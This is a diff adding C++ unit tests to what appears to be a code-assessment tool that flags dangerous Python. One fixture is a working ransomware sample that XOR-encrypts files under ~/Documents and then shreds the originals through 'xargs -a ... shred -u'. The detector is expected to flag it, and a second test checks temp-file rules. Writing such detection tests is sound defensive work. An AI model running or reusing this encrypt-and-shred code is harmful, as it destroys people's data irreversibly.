@@ -61,5 +61,42 @@ for t in json.loads(open("plan.json").read())["targets"]:
 )py", "WIPE"});
 }
 
+// xargs -a FILE (--arg-file) takes its arguments from that file, here the
+// walked files a Python encryptor listed in a temporary file before a shell
+// pass shreds them: ransomware. Listing them for `ls -l` instead only reads.
+TEST(TwoHundredAndFifteenthRoundClasses, XargsArgFileTakesTheFilesLines) {
+  check_with_twin({"walked files encrypted, their list shredded through xargs -a", B, R"py(
+import os, secrets, subprocess, sys, tempfile
+key = secrets.token_bytes(32)
+done = []
+for d, _, names in os.walk(os.path.expanduser("~/Documents")):
+    for n in names:
+        p = os.path.join(d, n)
+        data = open(p, "rb").read()
+        open(p + ".locked", "wb").write(bytes(a ^ key[i % 32] for i, a in enumerate(data)))
+        done.append(p)
+with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as fh:
+    fh.write("\0".join(done))
+subprocess.run(["bash", "-c", 'xargs -0 -a "$LIST" -r shred -u'], env=dict(os.environ, LIST=fh.name))
+)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  "-r shred -u", "-r ls -l", "the list only shown", M);
+}
+
+// A NamedTemporaryFile's name handed to a nested shell stays a name nobody
+// can guess there too: not a predictable /tmp path.
+TEST(TwoHundredAndFifteenthRoundClasses, PythonTemporaryNamesStayUnpredictableInNestedShells) {
+  const char* code = R"py(
+import os, subprocess, tempfile
+with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as fh:
+    fh.write("a\nb\n")
+subprocess.run(["bash", "-c", 'wc -l < "$L"'], env=dict(os.environ, L=fh.name))
+)py";
+  auto a = py(code);
+  EXPECT_FALSE(has_rule(a, "INSECURE-TEMP-FILE")) << describe(a);
+  EXPECT_TRUE(has_rule(py(replaced(code, "tempfile.NamedTemporaryFile(\"w\", delete=False, suffix=\".lst\")",
+                                   "open(\"/tmp/list.lst\", \"w\")")),
+                       "INSECURE-TEMP-FILE"));
+}
+
 }  // namespace
 }  // namespace mai::assess::test
